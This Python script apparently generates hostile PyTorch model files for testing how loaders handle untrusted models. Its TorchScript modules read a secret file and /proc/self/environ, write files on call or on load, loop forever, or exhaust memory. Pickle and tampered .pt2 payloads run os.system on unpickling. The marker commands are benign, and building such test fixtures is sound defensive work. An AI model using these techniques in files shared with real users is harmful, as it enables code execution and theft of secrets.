"""Run by the PyTorch toolchain's Python: `hostile_torch.py FOLDER SECRET MARK` writes hostile model files.

TorchScript is a language with operators that open files: each of these uses some. MARK is a file that an
attack would leave, SECRET one that it would read.
"""

from __future__ import annotations

import os
import pickle
import sys
import zipfile
from pathlib import Path

import torch

FOLDER, SECRET, MARK = Path(sys.argv[1]), sys.argv[2], sys.argv[3]


class Reads(torch.nn.Module):
    """The output holds the bytes of a file."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x.sum() + torch.from_file(self.path, False, 16, dtype=torch.uint8)

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path


class Maps(torch.nn.Module):
    """A shared mapping creates the file and writes to it."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        mapped = torch.from_file(self.path, True, 4, dtype=torch.float32)
        mapped.copy_(x)
        return mapped + x

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path


class Saves(torch.nn.Module):
    """Writes a file when it is called."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch.save(x, self.path)
        return x + 1

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path


class SavesWhenLoaded(torch.nn.Module):
    """Its state is set by code of its own."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + 1

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return self.path, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.path = state[0]
        self.training = state[1]
        torch.save(torch.ones(2), self.path)


class Loops(torch.nn.Module):
    """Never ends."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        while x.numel() > 0:
            x = x + 1
        return x


class Hoards(torch.nn.Module):
    """Asks for a terabyte."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.ones(1 << 38) + x.sum()


class Call:
    """Unpickled, this is a call."""

    def __reduce__(self) -> tuple[object, object]:
        return os.system, (f"touch {MARK}",)


def main() -> None:
    """Writes all files."""
    for name, module in {
        "reads": Reads(SECRET),
        "reads_proc": Reads("/proc/self/environ"),
        "maps": Maps(MARK),
        "saves": Saves(MARK),
        "saves_when_loaded": SavesWhenLoaded(MARK),
        "hoards": Hoards(),
        "loops": Loops(),
    }.items():
        if Path(MARK).exists():
            os.unlink(MARK)
        torch.jit.script(module).save(FOLDER / f"{name}.pt")
    Path(MARK).unlink(missing_ok=True)
    torch.save({"model": Call()}, FOLDER / "pickled.pth")
    with open(FOLDER / "bare.pth", "wb") as file:
        pickle.dump(Call(), file)
    _tampered(torch.export.export(torch.nn.Linear(4, 2), (torch.ones(1, 4),)))


def _tampered(program: torch.export.ExportedProgram) -> None:
    """An exported program whose pickled parts are calls."""
    torch.export.save(program, FOLDER / "whole.pt2")
    with zipfile.ZipFile(FOLDER / "whole.pt2") as whole, zipfile.ZipFile(FOLDER / "program.pt2", "w") as made:
        for name in whole.namelist():
            data = whole.read(name)
            is_pickled = name.endswith(".pt") or "weights" in name or "constants" in name
            made.writestr(name, pickle.dumps(Call()) if is_pickled else data)
    (FOLDER / "whole.pt2").unlink()


main()
